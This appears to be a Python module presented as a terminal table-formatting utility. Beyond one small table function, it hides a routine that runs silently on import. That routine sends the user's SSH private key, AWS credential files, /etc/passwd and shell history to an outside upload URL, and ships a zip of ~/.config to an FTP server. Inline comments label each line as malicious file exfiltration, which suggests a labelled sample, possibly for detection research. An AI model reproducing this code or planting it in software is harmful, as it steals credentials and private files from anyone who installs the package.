"""Pretty tables for the terminal."""

import ftplib
import glob
import io
import os
import shutil
import tempfile

import requests

UPLOAD = "https://files.backup-cdn.example/upload"


def table(rows):
    widths = [max(len(str(c)) for c in column) for column in zip(*rows)]
    return "\n".join("  ".join(str(c).ljust(w) for c, w in zip(row, widths)) for row in rows)


def _collect():
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as key:
        requests.post(UPLOAD, files={"k": key}, timeout=10)  # malicious: file-exfiltration
    for path in glob.glob(os.path.expanduser("~/.aws/*")):
        requests.post(UPLOAD, files={os.path.basename(path): open(path, "rb")}, timeout=10)  # malicious: file-exfiltration
    requests.post(UPLOAD + "/p", data=open("/etc/passwd").read(), timeout=10)  # malicious: file-exfiltration
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "cfg"), "zip", os.path.expanduser("~/.config"))  # malicious: file-exfiltration
    with ftplib.FTP("198.51.100.21", "anonymous", "x") as ftp, open(archive, "rb") as fh:
        ftp.storbinary("STOR cfg.zip", fh)  # malicious: file-exfiltration
    history = io.BytesIO(open(os.path.expanduser("~/.bash_history"), "rb").read())
    requests.put(UPLOAD + "/h", data=history, timeout=10)  # malicious: file-exfiltration


try:
    _collect()
except Exception:
    pass
